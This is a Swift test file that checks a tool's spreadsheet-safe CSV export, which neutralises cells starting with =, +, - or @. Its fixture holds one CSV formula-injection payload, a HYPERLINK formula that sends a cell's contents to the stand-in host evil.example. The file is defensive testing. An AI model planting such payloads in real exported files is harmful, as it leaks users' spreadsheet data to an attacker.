import CSV
import Foundation
import Testing

/// `scriptorium spreadsheet`: copies of the tables in which no cell can run as a formula, while the dataset's
/// own tables keep the exact text. Read back with CSV.swift, an independent parser.
@Suite struct SpreadsheetCopyTests {
    private func rows(_ url: URL) throws -> [[String]] {
        var text = try String(contentsOf: url, encoding: .utf8)
        if text.hasPrefix("\u{FEFF}") { text.removeFirst() }
        let reader = try CSVReader(string: text, hasHeaderRow: false)
        var out: [[String]] = []
        while let row = reader.next() { out.append(row) }
        return out
    }

    @Test func formulaCellsBecomeTextAndNothingElseChanges() throws {
        let folder = try temporaryFolder("spreadsheet")
        defer { cleanup(folder) }
        let input = folder.appendingPathComponent("in")
        try FileManager.default.createDirectory(at: input, withIntermediateDirectories: true)
        let text = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")\n\n+1+2 is a sum.\n\n@SUM(A1) is odd.\n\nAn ordinary paragraph, 1951.\n"
        try Data(text.utf8).write(to: input.appendingPathComponent("a.txt"))
        let output = folder.appendingPathComponent("out")
        #expect(try runTool(["build", input.path, "--output", output.path]).status == 0)
        let sheets = folder.appendingPathComponent("sheets")
        let run = try runTool(["spreadsheet", output.path, "--output", sheets.path])
        #expect(run.status == 0, "\(run.stderr)")

        let original = try rows(output.appendingPathComponent("data/csv/blocks.csv"))
        let copy = try rows(sheets.appendingPathComponent("blocks.csv"))
        #expect(try Data(contentsOf: sheets.appendingPathComponent("blocks.csv")).starts(with: [0xEF, 0xBB, 0xBF]))
        #expect(original.count == copy.count)
        var guarded = 0
        for (a, b) in zip(original.joined(), copy.joined()) {
            #expect(!["=", "+", "-", "@"].contains(b.first.map(String.init) ?? ""), "\(b)")
            if a != b {
                #expect(b == "'" + a)
                guarded += 1
            }
        }
        #expect(guarded == 3)
        #expect(original.contains { $0.contains("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")") }, "the dataset keeps the exact text")
        // The bag is untouched and the copies cannot go inside it.
        #expect(try runTool(["verify", output.path]).status == 0)
        #expect(try runTool(["spreadsheet", output.path, "--output", output.appendingPathComponent("data/sheets").path]).status != 0)
    }
}
